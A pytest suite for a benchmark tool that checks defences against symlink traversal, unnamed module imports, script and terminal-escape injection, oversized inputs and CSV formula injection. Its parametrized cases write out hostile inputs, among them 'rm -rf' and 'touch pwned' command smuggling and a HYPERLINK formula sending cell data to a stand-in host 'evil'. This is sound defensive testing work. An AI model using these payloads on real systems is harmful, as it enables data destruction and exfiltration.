"""Benchmark folders, suites and tables from elsewhere do nothing but what they say, and nowhere else."""

import os
import sys
import time
import tomllib
from pathlib import Path

import pytest

from regoal import BadInput, TrainConfig
from regoal.agent.settings import from_toml
from regoal.agent.trust import require_trusted
from regoal.benchmarks.cell_run import Job, printing_to, require_own_place, run_cell
from regoal.benchmarks.cells import Cell, cells_of, folder_name
from regoal.benchmarks.grid import MOST_COMBINATIONS
from regoal.benchmarks.report import write_report
from regoal.benchmarks.report_figures import draw_intervals, inline
from regoal.benchmarks.results import read_results
from regoal.benchmarks.seeds import MOST_SEEDS, parse_seeds
from regoal.benchmarks.staging import replace_text
from regoal.benchmarks.suite import load_suite, parse_suite
from regoal.benchmarks.tables import read_rows
from regoal.cli import main
from regoal.envs.shift import MOST_CHARACTERS, Shift

from .test_cells import TINY
from .test_report import LEARNED, _made

LINK = "got a link"


def _precious(tmp_path: Path) -> Path:
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / "thesis.txt").write_text("years of work")
    return folder


def _is_whole(folder: Path) -> bool:
    return [(path.name, path.read_text()) for path in folder.iterdir()] == [("thesis.txt", "years of work")]


@pytest.mark.parametrize("level", range(3))
def test_a_cell_that_is_a_link_takes_nothing_away(tmp_path: Path, level: int) -> None:
    home, out = _precious(tmp_path), tmp_path / "out"
    cell = cells_of(parse_suite(tomllib.loads(TINY), "tiny.toml"), out)[0]
    place = (cell.path, *cell.path.parents)[level]
    place.parent.mkdir(parents=True)
    place.symlink_to(home)
    with pytest.raises(BadInput, match=LINK):
        run_cell(Job(cell, {}))
    assert _is_whole(home)


def test_the_folder_of_all_cells_may_be_a_link_of_the_user_s_own(tmp_path: Path) -> None:
    (tmp_path / "large_disk").mkdir()
    (tmp_path / "out").symlink_to(tmp_path / "large_disk")
    require_own_place(Cell("preset/env/seed-0", TrainConfig("x", str(tmp_path / "out/preset/env/seed-0"))))


def test_a_benchmark_folder_with_links_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    home, out = _precious(tmp_path), tmp_path / "out"
    (tmp_path / "tiny.toml").write_text(TINY)
    out.mkdir()
    (out / "suite.toml").write_text(TINY)
    for name in ("cells", "figures", "results.csv"):
        (out / name).symlink_to(home)
        assert main(["benchmark", str(tmp_path / "tiny.toml"), "--out", str(out)]) == 2
        assert LINK in capsys.readouterr().err
        (out / name).unlink()
    assert _is_whole(home)


def test_nothing_is_written_through_a_link(tmp_path: Path) -> None:
    thesis = _precious(tmp_path) / "thesis.txt"
    (tmp_path / f".report.md-{os.getpid()}").symlink_to(thesis)
    replace_text(tmp_path / "report.md", "mine")
    assert (tmp_path / "report.md").read_text() == "mine"
    out = _made(tmp_path / "out", LEARNED)
    (out / "figures").mkdir()
    for name in ("heat-map.png", "heat-map.svg"):
        (out / "figures" / name).symlink_to(thesis)
    write_report(out)
    assert not (out / "figures" / "heat-map.png").is_symlink()
    (tmp_path / "seed-0.log").symlink_to(thesis)
    with pytest.raises(OSError, match="symbolic link"), printing_to(tmp_path / "seed-0.log"):
        pass
    assert _is_whole(thesis.parent)


def test_a_suite_imports_nothing_that_nobody_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "unnamed_module.py").write_text("raise SystemExit('it was run')\n")
    monkeypatch.syspath_prepend(tmp_path)
    for old, new in (
        ("[pretrain]", '[pretrain]\nshift = "unnamed_module:wind=3"'),
        ('shift = ["action_gain=0.5"]', 'shift = ["unnamed_module:wind=3"]'),
    ):
        suite = parse_suite(tomllib.loads(TINY.replace(old, new)), "tiny.toml")
        with pytest.raises(BadInput, match="--modules unnamed_module"):
            cells_of(suite, tmp_path / "out")
    assert "unnamed_module" not in sys.modules


def test_a_label_is_text_whatever_backslashes_are_in_it() -> None:
    out = inline(draw_intervals([], []), "x", r"\042\076\074script\076 \d \1")
    assert r'aria-label="\042\076\074script\076 \d \1"' in out
    assert "<script" not in out


def test_advice_can_be_pasted_and_terminals_obey_no_file(capsys: pytest.CaptureFixture[str]) -> None:
    kwargs = {"a": "1;touch pwned \x1b]0;T\x07\x1b[2K\r done"}
    with pytest.raises(BadInput) as told:
        require_trusted(TrainConfig(env="FetchReach-v4", out="x", env_kwargs=kwargs), "run")
    assert str(told.value).isprintable()
    assert r"--env-kwargs 'a=1;touch pwned \x1b]0;T\x07\x1b[2K\r done'" in str(told.value)
    with pytest.raises(BadInput, match=r"--modules 'x;rm -rf \.'"):
        require_trusted(TrainConfig(env="x;rm -rf .:ns/Env-v0", out="x"), "run")


def test_small_files_take_little_time_and_memory(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match=f"seeds: expected at most {MOST_SEEDS:,}"):
        parse_seeds("0..100000000000")
    names = ("policy_delay", "n_sampled_goal", "capacity", "block_episodes", "checkpoint_interval")
    dimensions = "".join(f"{name} = {list(range(1, 11))}\n" for name in names)
    wide = TINY.replace("[settings]", f"{dimensions}[settings]")
    with pytest.raises(BadInput, match=f"at most {MOST_COMBINATIONS:,} combinations"):
        cells_of(parse_suite(tomllib.loads(wide), "wide.toml"), tmp_path)
    os.mkfifo(tmp_path / "fifo.csv")
    (tmp_path / "endless.csv").symlink_to("/dev/zero")
    for name in ("fifo.csv", "endless.csv"):
        with pytest.raises(OSError, match="no plain file"):
            read_rows(tmp_path / name)
        with pytest.raises(BadInput, match="no plain file"):
            read_results(tmp_path / name)
    began = time.monotonic()
    for text in ("a" + " " * 1_500 + "b", ",".join(["1"] * 900), "friction=" + "1" * 1_900 + "x"):
        with pytest.raises(BadInput):
            Shift.parse(text)
    with pytest.raises(BadInput, match=f"at most {MOST_CHARACTERS:,} characters"):
        Shift.parse("a" * (MOST_CHARACTERS + 1))
    assert time.monotonic() - began < 5
    (tmp_path / "deep.toml").write_text("a = " + "[" * 5_000 + "]" * 5_000)
    with pytest.raises(BadInput, match="a readable TOML file"):
        load_suite(tmp_path / "deep.toml")
    with pytest.raises(BadInput, match="env: expected a value of type str, got a number of thousands"):
        from_toml({"env": 16**6_000, "out": "x"})


@pytest.mark.parametrize(
    ("column", "text"),
    [
        ("command", "=cmd|' /C calc'!A0"),
        ("success", '=HYPERLINK("http://evil/?"&A1)'),
        ("success", "nan"),
        ("return", "@SUM(1)"),
        ("seed", "zero"),
        ("seed", "-1"),
        ("env_steps", "1e9"),
        ("commit", "+1"),
    ],
)
def test_a_table_has_no_formulas_and_numbers_are_numbers(tmp_path: Path, column: str, text: str) -> None:
    out = _made(tmp_path / "out", LEARNED)
    rows = read_rows(out / "results.csv")
    header = list(rows[0])
    rows[0][column] = text
    quoted = ['"' + row[name].replace('"', '""') + '"' for row in rows for name in header]
    lines = [",".join(header)]
    lines += [",".join(quoted[start : start + len(header)]) for start in range(0, len(quoted), len(header))]
    (out / "results.csv").write_text("\n".join(lines) + "\n")
    with pytest.raises(BadInput, match=rf"results\.csv {column}: expected"):
        read_results(out / "results.csv")


def test_a_folder_is_not_the_one_above() -> None:
    assert [folder_name(text) for text in ("..", ".", "a..", "...")] == ["_..", "_.", "a..", "_..."]
